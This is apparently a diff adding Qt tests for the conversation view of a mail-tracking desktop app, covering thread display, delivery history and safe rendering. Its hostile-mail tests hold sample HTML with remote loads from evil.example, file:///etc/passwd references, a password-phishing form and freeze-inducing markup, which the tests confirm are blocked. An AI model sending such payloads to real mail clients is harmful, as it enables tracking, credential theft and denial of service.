@@ -1,0 +1,305 @@
+"""The thread beside its history: what is shown of sent mails, hostile ones too, and the wishes emitted."""
+
+import time
+from collections.abc import Iterator
+from datetime import UTC, timedelta
+from pathlib import Path
+
+import pytest
+from PySide6.QtCore import QPoint, QRect, Qt, QUrl
+from PySide6.QtGui import QTextDocument
+from PySide6.QtWidgets import QApplication, QLabel, QPushButton, QSplitter
+from pytestqt.qtbot import QtBot
+
+from app.core.delivery import State
+from app.core.history import Scope, Tab
+from app.core.message import Attachment
+from app.core.tracking import Outcome
+from app.store.database import Connection, open_database
+from app.ui import history_popover
+from app.ui.conversation import Conversation
+from app.ui.history_list import HistoryList
+from app.ui.history_popover import HistoryPopover
+from app.ui.mail_text import MailText
+from app.ui.message_head import MessageHead
+from tests.support.mail_stories import BROWSER, LINKS, NOW, PRICING, To, delivery_id, note, seen, send
+
+FIRST = "<000000000000000000000001@seller.example>"
+
+
+@pytest.fixture
+def connection(tmp_path: Path) -> Iterator[Connection]:
+    with open_database(tmp_path) as opened:
+        yield opened
+
+
+@pytest.fixture
+def conversation(qtbot: QtBot) -> Conversation:
+    shown = Conversation(lambda: NOW, UTC)
+    qtbot.addWidget(shown)
+    shown.resize(1024, 700)
+    shown.show()
+    return shown
+
+
+def labels(conversation: Conversation) -> list[str]:
+    QApplication.processEvents()
+    return [label.text() for label in conversation.findChildren(QLabel) if label.isVisible()]
+
+
+def text_of(conversation: Conversation) -> MailText:
+    [text] = conversation.findChildren(MailText)
+    return text
+
+
+def heads(conversation: Conversation) -> list[MessageHead]:
+    found = [head for head in conversation.findChildren(MessageHead) if head.isVisible()]
+    return sorted(found, key=lambda head: head.y())
+
+
+def rows(conversation: Conversation) -> list[str]:
+    [shown] = conversation.findChildren(HistoryList)
+    return [str(shown.rows.data(shown.rows.index(row))) for row in range(shown.rows.rowCount())]
+
+
+def three_mails(connection: Connection) -> list[int]:
+    numbers = [
+        send(connection, number=1, subject="Our offer", at=NOW - timedelta(days=3)),
+        send(connection, number=2, subject="Re: Our offer", at=NOW - timedelta(days=2), in_reply_to=FIRST),
+        send(connection, number=3, subject="A question", at=NOW - timedelta(days=1), references=[FIRST]),
+    ]
+    note(
+        connection,
+        seen(delivery_id(1, 0), NOW - timedelta(days=2), number=1),
+        seen(delivery_id(2, 0), NOW - timedelta(hours=2), number=1),
+        seen(delivery_id(2, 0), NOW - timedelta(hours=1), BROWSER, link=LINKS[0], number=2),
+    )
+    return numbers
+
+
+def test_a_mail_is_shown_as_written_with_what_became_of_it(
+    conversation: Conversation, connection: Connection
+) -> None:
+    never = "Mail to dan@never.example is never tracked."
+    row = send(
+        connection,
+        To(("Anna Berg <anna@northwind.example>",)),
+        To(("ben@contoso.example",), State.REFUSED, "550 5.1.1 no such user here"),
+        To(("dan@never.example",), outcome=Outcome(never, never)),
+        attachments=(Attachment("offer.pdf", "application/pdf", b"x" * 340_000),),
+    )
+    note(
+        connection,
+        seen(delivery_id(1, 0), NOW - timedelta(hours=3), number=1),
+        seen(delivery_id(1, 0), NOW - timedelta(hours=1), BROWSER, link=LINKS[0], number=2),
+    )
+    conversation.show_message(connection, row)
+    shown = labels(conversation)
+    for line in (
+        "Our offer",
+        "Sam Seller <sam@seller.example>",
+        "Anna Berg <anna@northwind.example>, ben@contoso.example, dan@never.example",
+        "Saturday 21 November 2026, 09:05:00",
+        "anna@northwind.example: opened 3 h ago, clicked 1 of 2 links",
+        "ben@contoso.example: refused: 550 5.1.1 no such user here",
+        "dan@never.example: not tracked",
+        "offer.pdf (340 KB)",
+        f"Opens of dan@never.example not tracked: {never}",
+        "Link “My profile” not tracked: It leads to an excluded domain.",
+    ):
+        assert line in shown
+    assert "here is our offer with the price list" in text_of(conversation).toPlainText()
+    assert rows(conversation)[1].startswith("Anna Berg clicked the price list")
+
+
+def test_a_thread_is_stacked_and_a_click_chooses_another_mail(
+    conversation: Conversation, connection: Connection, qtbot: QtBot
+) -> None:
+    numbers = three_mails(connection)
+    conversation.show_message(connection, numbers[1])
+    assert [head.isChecked() for head in heads(conversation)] == [False, True, False]
+    assert "opened, clicked 1 link" in heads(conversation)[1].accessibleName()
+    assert "no open seen" in heads(conversation)[2].accessibleName()
+    assert len([line for line in rows(conversation) if "Anna" in line]) == 3
+    with qtbot.waitSignal(conversation.message_chosen) as wish:
+        qtbot.mouseClick(heads(conversation)[0], Qt.MouseButton.LeftButton)
+    assert wish.args == [numbers[0]]
+    assert conversation.message() == numbers[0]
+    assert [head.isChecked() for head in heads(conversation)] == [True, False, False]
+    assert len([line for line in rows(conversation) if "Anna" in line]) == 2
+
+
+def test_a_mail_of_a_thread_is_chosen_by_key(
+    conversation: Conversation, connection: Connection, qtbot: QtBot
+) -> None:
+    numbers = three_mails(connection)
+    conversation.show_message(connection, numbers[1])
+    qtbot.keyClick(heads(conversation)[2], Qt.Key.Key_Space)
+    assert conversation.message() == numbers[2]
+
+
+def test_the_whole_thread_tells_what_happened_to_all_its_mails(
+    conversation: Conversation, connection: Connection
+) -> None:
+    conversation.show_message(connection, three_mails(connection)[2])
+    panel = conversation.history_panel
+    assert len([line for line in rows(conversation) if "Anna" in line]) == 1
+    panel.scope_changed.emit(Scope.THREAD)
+    panel.show_tab(Tab.OPENS)
+    assert len([line for line in rows(conversation) if "opened" in line]) == 2
+    conversation.refresh()
+    assert len([line for line in rows(conversation) if "opened" in line]) == 2
+
+
+def test_what_happens_while_it_is_shown_is_seen_after_a_refresh(
+    conversation: Conversation, connection: Connection
+) -> None:
+    row = send(connection)
+    conversation.show_message(connection, row)
+    assert "anna@northwind.example: no open seen" in labels(conversation)
+    note(connection, seen(delivery_id(1, 0), NOW))
+    conversation.refresh()
+    assert "anna@northwind.example: opened just now" in labels(conversation)
+    assert rows(conversation)[1].startswith("Anna Berg opened, just now")
+
+
+def test_a_mail_in_the_outbox_is_shown(conversation: Conversation, connection: Connection) -> None:
+    row = send(connection, To(("anna@northwind.example",), State.QUEUED))
+    connection.execute("UPDATE message SET clean = NULL, sending_at = NULL")
+    conversation.show_message(connection, row)
+    assert "anna@northwind.example: in the outbox" in labels(conversation)
+    assert "In the outbox: not sent yet" in labels(conversation)
+
+
+def test_the_browser_gets_a_page_that_loads_nothing(
+    conversation: Conversation, connection: Connection, qtbot: QtBot
+) -> None:
+    html = '<p>Hello <img src="cid:logo"><img src="https://evil.example/p.gif"><script>x()</script></p>'
+    row = send(connection, html=html, attachments=(Attachment("l.png", "image/png", b"png", "logo"),))
+    conversation.show_message(connection, row)
+    [button] = [b for b in conversation.findChildren(QPushButton) if b.text() == "Open in browser"]
+    with qtbot.waitSignal(conversation.open_in_browser) as wish:
+        button.click()
+    [page] = wish.args
+    assert "default-src 'none'" in page
+    assert "data:image/png;base64,cG5n" in page
+    assert "evil" not in page
+    assert "<script" not in page
+
+
+def test_nothing_is_read_once_it_is_cleared(
+    conversation: Conversation, connection: Connection, qapp: QApplication
+) -> None:
+    row = send(connection)
+    note(connection, *(seen(delivery_id(1, 0), NOW, number=n) for n in range(1, 5_000)))
+    conversation.show_message(connection, row)
+    assert conversation.message() == row
+    conversation.clear()
+    connection.close()
+    qapp.processEvents()
+    assert conversation.message() is None
+
+
+def test_a_mail_that_is_not_there_is_said_not_to_be(
+    conversation: Conversation, connection: Connection
+) -> None:
+    with pytest.raises(KeyError):
+        conversation.show_message(connection, 99)
+
+
+def test_a_link_of_the_mail_is_a_wish(
+    conversation: Conversation, connection: Connection, qtbot: QtBot
+) -> None:
+    conversation.show_message(connection, send(connection))
+    with qtbot.waitSignal(conversation.link_activated) as wish:
+        text_of(conversation).anchorClicked.emit(QUrl(PRICING))
+    assert wish.args == [PRICING]
+
+
+@pytest.mark.parametrize(
+    ("width", "orientation"), [(1024, Qt.Orientation.Horizontal), (560, Qt.Orientation.Vertical)]
+)
+def test_the_history_stands_beside_or_under_the_mail(
+    conversation: Conversation, connection: Connection, width: int, orientation: Qt.Orientation
+) -> None:
+    conversation.show_message(connection, send(connection))
+    conversation.resize(width, 700)
+    [splitter] = conversation.findChildren(QSplitter)
+    assert splitter.orientation() == orientation
+    assert all(size > 100 for size in splitter.sizes())
+
+
+HOSTILE = {
+    "script": "<script>while(1);</script><p onload=x()>text</p>",
+    "remote": '<img src="https://evil.example/1.gif"><p style="background:url(//evil.example/2.gif)">text</p>'
+    '<link rel=stylesheet href=//evil.example/3.css><body background="//evil.example/4.gif">',
+    "local": '<img src="file:///etc/passwd"><iframe src="file:///etc/passwd"></iframe><p>text</p>',
+    "form": "<form action=https://evil.example><input name=password><button>Go</button></form><p>text</p>",
+    "huge table": "<table>" + "<tr>" + "<td width=9999>text</td>" * 200 + "</tr>" * 100 + "</table>",
+    "nested tables": "<table border=1><tr><td>" * 400 + "text",
+    "megabyte": "<p>text <b>bold</b> <i>more</i></p>" * 30_000,
+    "one line": "text" * 250_000,
+    "deep": "text" + "<div>" * 100_000,
+    "lists": "<ul><li>" * 2_000 + "text",
+    "quotes": "<blockquote>" * 480 + "text",
+    "headings": "<h1>text</h1>" * 50_000,
+}
+
+
+@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
+def test_hostile_mails_load_nothing_and_do_not_freeze(
+    conversation: Conversation,
+    connection: Connection,
+    qapp: QApplication,
+    html: str,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    asked: list[object] = []
+    monkeypatch.setattr(MailText, "loadResource", lambda self, kind, name: asked.append(name))
+    row = send(connection, html=html)
+    before = time.thread_time()
+    conversation.show_message(connection, row)
+    qapp.processEvents()
+    spent = time.thread_time() - before
+    assert not asked
+    assert "text" in text_of(conversation).toPlainText()
+    assert spent < 0.5
+
+
+def test_the_text_loads_nothing_even_where_it_names_something(qtbot: QtBot) -> None:
+    text = MailText()
+    qtbot.addWidget(text)
+    for kind in (QTextDocument.ResourceType.ImageResource, QTextDocument.ResourceType.StyleSheetResource):
+        assert text.loadResource(kind.value, QUrl("file:///etc/hostname")) is None
+
+
+@pytest.mark.parametrize(
+    ("point", "inside"),
+    [
+        (QPoint(10, 10), QPoint(10, 10)),
+        (QPoint(795, 10), QPoint(800 - history_popover.WIDTH, 10)),
+        (QPoint(10, 590), QPoint(10, 600 - history_popover.HEIGHT)),
+    ],
+)
+def test_the_popover_stands_inside_the_screen(point: QPoint, inside: QPoint) -> None:
+    screen = QRect(0, 0, 800, 600)
+    placed = history_popover.placed(point, screen)
+    assert placed.topLeft() == inside
+    assert screen.contains(placed)
+
+
+def test_the_popover_shows_one_mail_and_closes_on_escape(connection: Connection, qtbot: QtBot) -> None:
+    numbers = three_mails(connection)
+    popover = HistoryPopover(lambda: NOW, UTC)
+    qtbot.addWidget(popover)
+    popover.open_at(connection, numbers[1], QPoint(50, 50))
+    [shown] = popover.findChildren(HistoryList)
+    assert [str(shown.rows.data(shown.rows.index(row))).split(",")[0] for row in range(shown.rows.rowCount())] == [
+        "Today", "Anna Berg clicked the price list", "Anna Berg opened", "Thursday 19 November",
+        "Anna Berg accepted by your server",
+    ]  # fmt: skip
+    note(connection, seen(delivery_id(2, 0), NOW, number=7))
+    popover.refresh(connection)
+    assert popover.panel.findChildren(QLabel)[0].text().startswith("Opened 2 times")
+    qtbot.keyClick(popover, Qt.Key.Key_Escape)
+    assert not popover.isVisible()
